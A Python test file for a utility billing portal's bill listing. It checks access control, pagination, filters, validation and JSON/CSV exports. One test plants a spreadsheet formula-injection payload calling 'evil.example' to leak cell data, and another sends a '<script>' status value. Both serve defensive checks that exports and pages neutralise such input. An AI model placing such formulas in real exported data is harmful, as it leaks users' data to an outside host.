"""My bills and View online bill: scoped to the viewer's accounts, filtered, keyset-paginated."""

import csv
import html
import json
import re
from typing import Any

from portal.bills.services import STATUSES
from portal.db.tables import Account, Bill, Customer
from tests.conftest import submit
from tests.steps import ADMIN, ANA, ANA_IDENTITY, error_messages, sign_in, submit_sign_in

EXPORT_HEADER = "bill_number,account,holder,period_start,period_end,issue_date,due_date,amount_eur,status"
"""The columns of every export of bills (bills.csv, the Excel list, the zip's index)."""


async def bill_of(account_number: str) -> dict[str, Any]:
    account = await Account.select(Account.id).where(Account.number == account_number).first()
    bill = await Bill.select().where(Bill.account == account["id"]).order_by(Bill.id, ascending=False).first()
    assert bill is not None
    return bill


async def test_anonymous_is_sent_to_sign_in(client: Any, demo: None) -> None:
    bill = await bill_of("0001000413")
    for path in ("/bills", f"/bills/{bill['id']}", f"/bills/{bill['id']}/bill.json"):
        response = await client.get(path, follow_redirects=False)
        assert response.status_code == 303
        assert response.headers["location"] == f"/sign-in?next={path.replace('/', '%2F')}"


async def test_a_bookmarked_filter_survives_signing_in(client: Any, demo: None) -> None:
    """A signed-out visit keeps its whole address, query and all, through "Sign in"; a form sent after
    the session ended goes to "Sign in" with no address to come back to (its answers went with it)."""
    bookmark = "/bills?account=0001000413&status=overdue"
    response = await client.get(bookmark, follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"] == "/sign-in?next=%2Fbills%3Faccount%3D0001000413%26status%3Doverdue"
    huge = "/bills?" + "status=overdue&" * 200  # 3,000 characters: too long to keep, no page writes it
    assert (await client.get(huge, follow_redirects=False)).headers["location"] == "/sign-in?next=%2Fbills"
    sign_in_page = await client.get(response.headers["location"])
    kept = re.search(r'<input type="hidden" name="next" value="([^"]*)">', sign_in_page.text)
    assert kept is not None and html.unescape(kept.group(1)) == bookmark
    back = await submit_sign_in(client, ANA[0], ANA[1], next_path=html.unescape(kept.group(1)))
    assert back.status_code == 303 and back.headers["location"] == bookmark
    listed = (await client.get(bookmark)).text.split('id="pending-heading"')[0]
    statuses = re.findall(r'<td data-label="Status"><span class="tag tag--(\w+)">(\w+)</span></td>', listed)
    assert statuses == [("red", "Overdue")]  # Ana's one overdue bill, of account 0001000413

    await submit(client, "/sign-out")
    late = await submit(client, "/downloads/new", {"from_month": "2026-01"})
    assert late.status_code == 303 and late.headers["location"] == "/sign-in"


async def test_access_matrix(client: Any, demo: None) -> None:
    """Ana (holder of 0001000413/421) and the administrator (Las Palmeras) each see only their bills;
    someone else's bill answers 404 exactly like a bill that does not exist."""
    anas = await bill_of("0001000413")
    admins = await bill_of("0001000439")
    await sign_in(client, ANA)
    for path in (f"/bills/{anas['id']}", f"/bills/{anas['id']}/bill.json"):
        assert (await client.get(path)).status_code == 200
    for path in (f"/bills/{admins['id']}", f"/bills/{admins['id']}/bill.json", "/bills/999999999"):
        assert (await client.get(path)).status_code == 404
    listing = await client.get("/bills")
    assert anas["number"] in listing.text and admins["number"] not in listing.text

    await submit(client, "/sign-out")
    await sign_in(client, ADMIN)
    assert (await client.get(f"/bills/{admins['id']}")).status_code == 200
    assert (await client.get(f"/bills/{anas['id']}")).status_code == 404


async def test_pages_with_a_cursor_and_pending_bills_come_last(client: Any, demo: None) -> None:
    await sign_in(client, ADMIN)  # 5 accounts × 25 bills
    seen: list[str] = []
    path = "/bills"
    while path:
        page = await client.get(path)
        assert page.status_code == 200
        seen += re.findall(r">(FA\d{11})</a></td>", page.text)
        more = re.search(r'href="(/bills\?[^"]*after=[^"]+)">Older bills', page.text)
        path = more.group(1).replace("&amp;", "&") if more else ""
    assert len(seen) == 125 and len(set(seen)) == 125
    pending_section = page.text.split('id="pending-heading"')[1]
    assert pending_section.count("View online bill") == 4


async def test_older_pages_lead_back_to_the_newest_bills_with_the_same_filters(
    client: Any, demo: None
) -> None:
    await sign_in(client, ADMIN)
    first = await client.get("/bills?status=paid")
    assert "Newest bills" not in first.text
    older = (
        re.search(r'href="(/bills\?[^"]*after=[^"]+)">Older bills', first.text).group(1).replace("&amp;", "&")
    )
    second = await client.get(older)
    newest = re.search(r'href="([^"]+)">Newest bills', second.text).group(1).replace("&amp;", "&")
    assert "after=" not in newest and "status=paid" in newest
    assert (await client.get(newest)).text.count("<tr>") == first.text.count("<tr>")


async def test_filters(client: Any, demo: None) -> None:
    await sign_in(client, ANA)
    one_account = await client.get("/bills?account=0001000421")
    numbers = re.findall(r">(FA\d{11})</a></td>", one_account.text)
    assert len(numbers) == 25
    overdue = await client.get("/bills?status=overdue")
    listed = overdue.text.split('id="pending-heading"')[0]
    # The status column of the table, not the filter's options: Ana's one overdue bill, and nothing else.
    statuses = re.findall(r'<td data-label="Status"><span class="tag tag--(\w+)">(\w+)</span></td>', listed)
    assert statuses == [("red", "Overdue")]


async def test_the_status_filter_speaks_the_pages_language_and_shows_the_choice(
    client: Any, demo: None
) -> None:
    """Also: the blank filters (written once per language) never show another visit's choice."""
    await sign_in(client, ANA)
    await submit(client, "/language", {"language": "es", "return_to": "/bills"})
    for path, chosen in (
        ("/bills", ""),
        ("/bills?status=paid", "paid"),
        ("/bills", ""),
        ("/bills?status=", ""),
    ):
        options = re.findall(
            r'<option value="(\w*)" ?(selected)?>([^<]+)</option>', (await client.get(path)).text
        )
        assert [option for option in options if option[0] in STATUSES] == [
            ("pending", "selected" if chosen == "pending" else "", "Pendiente"),
            ("overdue", "", "Vencida"),
            ("paid", "selected" if chosen == "paid" else "", "Pagada"),
            ("direct_debit", "", "Domiciliada"),
            ("credit", "", "Nada que pagar"),
        ], path


async def test_period_filters_keep_what_was_typed_and_name_the_field(client: Any, demo: None) -> None:
    await sign_in(client, ANA)
    backwards = await client.get(
        "/bills?period_from_month=6&period_from_year=2026&period_to_month=1&period_to_year=2026"
    )
    assert backwards.status_code == 422
    assert error_messages(backwards.text) == [
        "Period to must be the same month as Period from or a later one"
    ]
    garbage = await client.get("/bills?period_from_month=13&period_from_year=soon&status=%3Cscript%3E")
    assert garbage.status_code == 422
    assert error_messages(garbage.text) == [
        "Period from must be a real month: enter its number, from 1 to 12",
        "Select a status from the list",
    ]
    assert 'name="period_from_month" type="text" inputmode="numeric" value="13"' in garbage.text
    assert 'name="period_from_year" type="text" inputmode="numeric" value="soon"' in garbage.text
    assert "<script>" not in garbage.text
    march = await client.get(
        "/bills?period_from_month=mar&period_from_year=2026&period_to_month=3&period_to_year=2026"
    )
    assert march.status_code == 200
    periods = re.findall(r'<td data-label="Period">([^<]+)</td>', march.text.split('id="pending-heading"')[0])
    assert periods and all(
        "Mar 2026" in period or "Feb 2026" in period or "Apr 2026" in period for period in periods
    )


async def test_bill_json_download(client: Any, demo: None) -> None:
    bill = await bill_of("0001000413")
    await sign_in(client, ANA)
    response = await client.get(f"/bills/{bill['id']}/bill.json")
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["cache-control"] == "no-store"
    assert response.headers["content-disposition"] == f'attachment; filename="{bill["number"]}.json"'
    data = json.loads(response.text)
    assert data["number"] == bill["number"]
    assert data["total_cents"] == bill["total_cents"]
    assert sum(line["amount_cents"] for line in data["lines"]) == bill["total_cents"]
    assert data["payment"]["reference"] == bill["payment_reference"]


async def test_list_as_csv_has_every_matching_bill(client: Any, demo: None) -> None:
    await sign_in(client, ADMIN)  # 125 bills: more than two pages
    response = await client.get("/bills/bills.csv")
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="bills.csv"'
    assert response.headers["cache-control"] == "no-store"
    lines = response.text.strip().splitlines()
    assert lines[0] == EXPORT_HEADER
    assert len(lines) == 126 and len({line.split(",")[0] for line in lines[1:]}) == 125
    overdue = (await client.get("/bills/bills.csv?status=overdue")).text.strip().splitlines()
    assert len(overdue) == 2 and overdue[1].endswith(",Overdue")  # the label, as in the zip's index.csv
    assert (await client.get("/bills/bills.csv?period_from_month=1&period_from_year=nope")).status_code == 422


async def test_a_holder_name_like_a_formula_is_text_in_the_csv(client: Any, demo: None) -> None:
    """Names come from customers: one a spreadsheet would run gets a quote before it; amounts stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
    await Customer.update({Customer.name: formula}).where(Customer.identity_number == ANA_IDENTITY)
    await sign_in(client)
    rows = list(csv.DictReader((await client.get("/bills/bills.csv")).text.splitlines()))
    assert rows and {row["holder"] for row in rows} == {"'" + formula}
    assert all(float(row["amount_eur"]) > 0 and row["due_date"][:2] == "20" for row in rows)
